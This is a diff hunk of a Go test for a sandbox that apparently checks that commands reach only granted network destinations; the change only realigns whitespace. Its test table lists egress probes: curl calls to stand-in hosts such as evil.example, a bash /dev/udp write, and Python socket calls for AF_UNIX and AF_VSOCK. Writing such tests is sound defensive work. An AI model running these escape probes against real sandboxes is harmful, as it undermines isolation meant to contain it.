@@ -33,13 +33,13 @@ func TestSandboxedCommandReachesWhatItIsGrantedAndNothingElse(t *testing.T) {
 		t.Errorf("the upstream got %d requests", len(got))
 	}
 	for script, want := range map[string]struct{ kind, target string }{
-		`curl -sS --noproxy "*" https://203.0.113.7/`:                      {"tls", "203.0.113.7:443"},
-		`curl -sS --noproxy "*" http://203.0.113.7/`:                       {"http", "203.0.113.7"},
-		`curl -sS --noproxy "*" -m 5 http://203.0.113.7:8080/`:             {"tcp", "203.0.113.7:8080"},
-		`curl -sS https://evil.example/`:                                   {"connect", "evil.example:443"},
-		`bash -c "echo x >/dev/udp/203.0.113.7/53"`:                        {"udp", "203.0.113.7:53"},
-		`python3 -c "import socket; socket.socket(socket.AF_UNIX)"`:        {"socket", "AF_UNIX"},
-		`curl -sS --noproxy "*" https://secret.evil.example/ -m 5`:         {"dns", "evil.example"},
+		`curl -sS --noproxy "*" https://203.0.113.7/`:                       {"tls", "203.0.113.7:443"},
+		`curl -sS --noproxy "*" http://203.0.113.7/`:                        {"http", "203.0.113.7"},
+		`curl -sS --noproxy "*" -m 5 http://203.0.113.7:8080/`:              {"tcp", "203.0.113.7:8080"},
+		`curl -sS https://evil.example/`:                                    {"connect", "evil.example:443"},
+		`bash -c "echo x >/dev/udp/203.0.113.7/53"`:                         {"udp", "203.0.113.7:53"},
+		`python3 -c "import socket; socket.socket(socket.AF_UNIX)"`:         {"socket", "AF_UNIX"},
+		`curl -sS --noproxy "*" https://secret.evil.example/ -m 5`:          {"dns", "evil.example"},
 		`python3 -c "import socket; socket.socket(40, socket.SOCK_STREAM)"`: {"socket", "AF_VSOCK"},
 	} {
 		box(script)
